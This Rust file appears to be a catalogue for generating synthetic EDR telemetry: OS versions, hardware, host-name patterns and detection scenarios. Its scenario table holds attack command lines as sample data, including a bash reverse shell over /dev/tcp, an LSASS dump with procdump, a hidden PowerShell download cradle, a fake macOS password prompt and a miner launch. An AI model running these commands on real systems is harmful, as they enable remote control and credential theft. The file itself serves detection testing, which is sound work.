//! The EDR fleet's catalogue: operating systems, hardware, host-name patterns, sensor
//! versions and detection scenarios, common and rare, with their shares.

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Family {
    Windows,
    Mac,
    Linux,
}

/// An operating system and the names it goes by (vendors pick the spelling they use).
#[derive(Debug)]
pub struct Os {
    pub family: Family,
    pub server: bool,
    /// Legacy Windows (some vendors report it as a separate OS type).
    pub legacy: bool,
    /// A Kubernetes node (some vendors report it as a separate machine type).
    pub k8s: bool,
    /// The edition's full name ("Windows 10 Pro", "macOS Sonoma 14.4").
    pub full_name: &'static str,
    /// The product line without edition ("Windows 10", "Sonoma (14)").
    pub short_name: &'static str,
    /// A compact platform key ("Windows10", "macOS", "Linux").
    pub platform_key: &'static str,
    /// The release or feature update ("22H2").
    pub release: &'static str,
    pub product_name: &'static str,
    pub build: &'static str,
    pub kernel: &'static str,
    pub major: &'static str,
    pub minor: &'static str,
    pub weight: u32,
}

macro_rules! os {
    ($fam:ident, $server:expr, $legacy:expr, $k8s:expr, $full:expr, $short:expr, $key:expr, $release:expr, $prod:expr, $build:expr, $kernel:expr, $maj:expr, $min:expr, $w:expr) => {
        Os {
            family: Family::$fam,
            server: $server,
            legacy: $legacy,
            k8s: $k8s,
            full_name: $full,
            short_name: $short,
            platform_key: $key,
            release: $release,
            product_name: $prod,
            build: $build,
            kernel: $kernel,
            major: $maj,
            minor: $min,
            weight: $w,
        }
    };
}

/// The fleet's operating systems with their share (rare ones included).
pub static OSES: &[Os] = &[
    os!(
        Windows,
        false,
        false,
        false,
        "Windows 10 Pro",
        "Windows 10",
        "Windows10",
        "22H2",
        "Windows 10 Pro",
        "19045",
        "10.0.19045.4291",
        "10",
        "0",
        30
    ),
    os!(
        Windows,
        false,
        false,
        false,
        "Windows 11 Enterprise",
        "Windows 11",
        "Windows11",
        "23H2",
        "Windows 11 Enterprise",
        "22631",
        "10.0.22631.3447",
        "10",
        "0",
        25
    ),
    os!(
        Windows,
        true,
        false,
        false,
        "Windows Server 2016 Standard",
        "Windows Server 2016",
        "WindowsServer2016",
        "1607",
        "Windows Server 2016 Standard",
        "14393",
        "10.0.14393.6897",
        "10",
        "0",
        4
    ),
    os!(
        Windows,
        true,
        false,
        false,
        "Windows Server 2019 Datacenter",
        "Windows Server 2019",
        "WindowsServer2019",
        "1809",
        "Windows Server 2019 Datacenter",
        "17763",
        "10.0.17763.5696",
        "10",
        "0",
        6
    ),
    os!(
        Windows,
        true,
        false,
        false,
        "Windows Server 2022 Standard",
        "Windows Server 2022",
        "WindowsServer2022",
        "21H2",
        "Windows Server 2022 Standard",
        "20348",
        "10.0.20348.2402",
        "10",
        "0",
        6
    ),
    os!(
        Windows,
        false,
        true,
        false,
        "Windows 7 Professional",
        "Windows 7",
        "Windows7",
        "1601",
        "Windows 7 Professional",
        "7601",
        "6.1.7601.24546",
        "6",
        "1",
        1
    ),
    os!(
        Mac,
        false,
        false,
        false,
        "macOS Sonoma",
        "Sonoma (14)",
        "macOS",
        "14.4",
        "macOS",
        "23E214",
        "23.4.0",
        "23",
        "4",
        10
    ),
    os!(
        Mac,
        false,
        false,
        false,
        "macOS Ventura",
        "Ventura (13)",
        "macOS",
        "13.6",
        "macOS",
        "22G120",
        "22.6.0",
        "22",
        "6",
        4
    ),
    os!(
        Linux,
        true,
        false,
        false,
        "Linux",
        "Ubuntu 22.04",
        "Ubuntu",
        "22.4",
        "Ubuntu 22.04.4 LTS",
        "5.15.0-105-generic",
        "5.15.0-105-generic",
        "5",
        "15",
        6
    ),
    os!(
        Linux,
        true,
        false,
        false,
        "Linux",
        "RHEL 9.3",
        "RedHatEnterpriseLinux",
        "9.3",
        "Red Hat Enterprise Linux 9.3 (Plow)",
        "5.14.0-362.24.1.el9_3.x86_64",
        "5.14.0-362.24.1.el9_3.x86_64",
        "5",
        "14",
        4
    ),
    os!(
        Linux,
        true,
        false,
        false,
        "Linux",
        "Amazon Linux 2",
        "Linux",
        "2",
        "Amazon Linux 2",
        "5.10.214-202.855.amzn2.x86_64",
        "5.10.214-202.855.amzn2.x86_64",
        "5",
        "10",
        3
    ),
    os!(
        Linux,
        true,
        false,
        true,
        "Linux",
        "Ubuntu 20.04",
        "Ubuntu",
        "20.4",
        "Ubuntu 20.04.6 LTS",
        "5.4.0-176-generic",
        "5.4.0-176-generic",
        "5",
        "4",
        1
    ),
];

/// Hardware (manufacturer, model) by kind.
/// Workstations and laptops.
pub const WORKSTATIONS: &[(&str, &str)] = &[
    ("Dell Inc.", "Latitude 5440"),
    ("LENOVO", "20XW0026US"),
    ("HP", "HP EliteBook 840 G9"),
    ("Microsoft Corporation", "Surface Laptop 5"),
];
/// Servers (physical, virtual and cloud).
pub const SERVERS: &[(&str, &str)] = &[
    ("VMware, Inc.", "VMware7,1"),
    ("Microsoft Corporation", "Virtual Machine"),
    ("Amazon EC2", "t3.large"),
    ("Dell Inc.", "PowerEdge R750"),
];
/// Macs.
pub const MACS: &[(&str, &str)] = &[
    ("Apple Inc.", "MacBookPro18,3"),
    ("Apple Inc.", "Mac14,2"),
    ("Apple Inc.", "Macmini9,1"),
];

/// Active Directory domains (NetBIOS names).
pub const AD_DOMAINS: &[&str] = &["CORP", "EMEA", "LAB"];
/// Host-name prefixes by kind of host.
pub const WIN_PREFIXES: &[&str] = &["DESKTOP", "LAPTOP", "WS-FIN", "WS-HR", "WS-ENG", "LT-SALES"];
pub const SRV_PREFIXES: &[&str] = &["SRV-SQL", "SRV-DC", "SRV-WEB", "SRV-FILE", "SRV-APP"];
pub const LINUX_PREFIXES: &[&str] = &["web-prod", "db", "build", "api-stg", "k8s-node"];
/// Agent versions, oldest first (a device's version moves up as it checks in).
pub const AGENT_VERSIONS: &[&str] = &[
    "7.10.17706.0",
    "7.11.18110.0",
    "7.13.18309.0",
    "7.14.18408.0",
    "7.15.18513.0",
];

/// What happened, as a detection: one row per kind of threat.
#[derive(Debug)]
pub struct Scenario {
    pub family: Family,
    /// Human title.
    pub title: &'static str,
    pub description: &'static str,
    /// The detection pattern's name and id.
    pub pattern_name: &'static str,
    pub pattern_id: u32,
    pub tactic_id: &'static str,
    pub tactic: &'static str,
    pub technique_id: &'static str,
    pub technique: &'static str,
    pub filename: &'static str,
    pub folder: &'static str,
    pub args: &'static str,
    pub parent: &'static str,
    pub parent_folder: &'static str,
    /// The threat's classification and category.
    pub classification: &'static str,
    pub category: &'static str,
    /// (low, high) severity score, 1–100.
    pub severity: (i64, i64),
    pub weight: u32,
}

macro_rules! sc {
    ($fam:ident, $title:expr, $desc:expr, $pattern:expr, $pid:expr, $taid:expr, $ta:expr, $teid:expr, $te:expr, $file:expr, $folder:expr, $args:expr, $parent:expr, $pfolder:expr, $class:expr, $cat:expr, $sev:expr, $w:expr) => {
        Scenario {
            family: Family::$fam,
            title: $title,
            description: $desc,
            pattern_name: $pattern,
            pattern_id: $pid,
            tactic_id: $taid,
            tactic: $ta,
            technique_id: $teid,
            technique: $te,
            filename: $file,
            folder: $folder,
            args: $args,
            parent: $parent,
            parent_folder: $pfolder,
            classification: $class,
            category: $cat,
            severity: $sev,
            weight: $w,
        }
    };
}

/// Detection scenarios, common and rare.
pub static SCENARIOS: &[Scenario] = &[
    sc!(Windows, "Suspicious PowerShell download cradle", "A PowerShell process downloaded and ran content from the internet.", "PowerShellDownloadCradle", 10247, "TA0002", "Execution", "T1059.001", "PowerShell", "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", "Malware", "Execution", (50, 80), 20),
    sc!(Windows, "Credential dumping from LSASS memory", "A process read the memory of lsass.exe, which holds credentials.", "CredentialDumpingLsass", 5701, "TA0006", "Credential Access", "T1003.001", "LSASS Memory", "procdump64.exe", "C:\\Users\\Public\\Downloads", "-accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp", "cmd.exe", "C:\\Windows\\System32", "Hacktool", "CredentialAccess", (80, 99), 8),
    sc!(Windows, "Low-reputation DLL run by rundll32", "rundll32.exe ran a DLL with a low reputation.", "Rundll32LowRepDll", 5761, "TA0005", "Defense Evasion", "T1218.011", "Rundll32", "rundll32.exe", "C:\\Windows\\SysWOW64", "C:\\Users\\Public\\AppData\\Local\\Temp\\update.dll,DllRegisterServer", "explorer.exe", "C:\\Windows", "Trojan", "DefenseEvasion", (40, 70), 14),
    sc!(Windows, "Ransomware behavior: mass file encryption", "A process renamed and encrypted many user files.", "RansomwareFileEncryption", 4510, "TA0040", "Impact", "T1486", "Data Encrypted for Impact", "invoice_2026.pdf.exe", "C:\\Users\\Public\\AppData\\Local\\Temp", "--silent --all-drives", "outlook.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", "Ransomware", "Ransomware", (90, 100), 3),
    sc!(Windows, "Registry run key persistence", "A run key was added that starts an unsigned binary at logon.", "RegistryRunKeyPersistence", 10144, "TA0003", "Persistence", "T1547.001", "Registry Run Keys / Startup Folder", "reg.exe", "C:\\Windows\\System32", "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d C:\\ProgramData\\svch0st.exe", "cmd.exe", "C:\\Windows\\System32", "Malware", "Persistence", (30, 60), 10),
    sc!(Windows, "Adware bundled installer", "This file meets the Adware/PUP machine-learning threshold.", "PrewittPupAdwareSensorDetect-Lowest", 5761, "CSTA0004", "Machine Learning", "CST0000", "Adware/PUP", "setup_free_converter.exe", "C:\\Users\\Public\\Downloads", "/S", "explorer.exe", "C:\\Windows", "PUA", "UnwantedSoftware", (10, 30), 16),
    sc!(Windows, "Lateral movement with PsExec", "A service was created remotely over SMB admin shares.", "PsExecLateralMovement", 10371, "TA0008", "Lateral Movement", "T1021.002", "SMB/Windows Admin Shares", "PSEXESVC.exe", "C:\\Windows", "-accepteula \\\\SRV-FILE cmd.exe", "services.exe", "C:\\Windows\\System32", "Hacktool", "LateralMovement", (60, 85), 5),
    sc!(Mac, "Suspicious osascript credential prompt", "osascript displayed a fake password dialog.", "MacOsascriptCredentialPrompt", 20311, "TA0006", "Credential Access", "T1056.002", "GUI Input Capture", "osascript", "/usr/bin", "-e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'", "bash", "/bin", "Infostealer", "CredentialAccess", (60, 80), 6),
    sc!(Mac, "Unsigned launch agent persistence", "An unsigned binary was registered as a launch agent.", "MacLaunchAgentPersistence", 20157, "TA0003", "Persistence", "T1543.001", "Launch Agent", "com.apple.updater", "/Users/Shared/.cache", "--daemon", "launchd", "/sbin", "Malware", "Persistence", (40, 70), 4),
    sc!(Linux, "Cryptominer started from /tmp", "A known cryptocurrency miner ran from a temporary folder.", "LinuxCryptominer", 30412, "TA0040", "Impact", "T1496", "Resource Hijacking", "xmrig", "/tmp/.cache", "-o pool.example.net:3333 --donate-level 1", "bash", "/usr/bin", "Miner", "Malware", (50, 75), 7),
    sc!(Linux, "Reverse shell via bash", "bash redirected its input and output to a network socket.", "LinuxReverseShell", 30188, "TA0011", "Command and Control", "T1071.001", "Web Protocols", "bash", "/usr/bin", "-i >& /dev/tcp/203.0.113.50/4444 0>&1", "python3", "/usr/bin", "Exploit", "CommandAndControl", (70, 95), 4),
    sc!(Linux, "System discovery commands", "A sequence of discovery commands ran from a web server process.", "LinuxSystemDiscovery", 30077, "TA0007", "Discovery", "T1082", "System Information Discovery", "uname", "/usr/bin", "-a", "php-fpm", "/usr/sbin", "Suspicious", "SuspiciousActivity", (20, 45), 6),
];
